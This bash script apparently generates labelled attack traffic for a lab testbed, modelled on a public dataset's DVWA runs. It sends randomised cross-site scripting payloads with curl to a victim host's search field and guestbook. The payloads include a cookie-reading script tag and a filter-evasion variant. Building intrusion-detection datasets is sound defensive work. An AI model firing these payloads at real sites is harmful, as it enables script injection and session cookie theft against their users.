#!/usr/bin/env bash
# XSS brute force (scripted curl): payload variants thrown at the reflected search field and the stored
# guestbook, as CIC's Selenium script did against DVWA; at most TB_COUNT requests.
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
payloads=('<script>alert(1)</script>' '"><script>alert(document.cookie)</script>' "<img src=x onerror=alert('xss')>"
          '<svg/onload=alert(1)>' "<body onload=alert('x')>" '<iframe src="javascript:alert(1)">'
          "'';!--\"<XSS>=&{()}" '<scr<script>ipt>alert(1)</scr</script>ipt>' '<a href="javascript:alert(1)">x</a>'
          '<div style="background:url(javascript:alert(1))">')
for ((i = 0; i < TB_COUNT && $(tb_left) > 0; i++)); do
  p="${payloads[RANDOM % ${#payloads[@]}]}<!--$RANDOM-->"
  if (( RANDOM % 2 )); then
    tb_run "$TB_NS" curl -s -o /dev/null -m 5 -G --data-urlencode "q=$p" "http://$TB_VICTIM/search.php"
  else
    tb_run "$TB_NS" curl -s -o /dev/null -m 5 --data-urlencode "name=guest$RANDOM" --data-urlencode "comment=$p" "http://$TB_VICTIM/guestbook.php"
  fi
  tb_pause 20 200
done
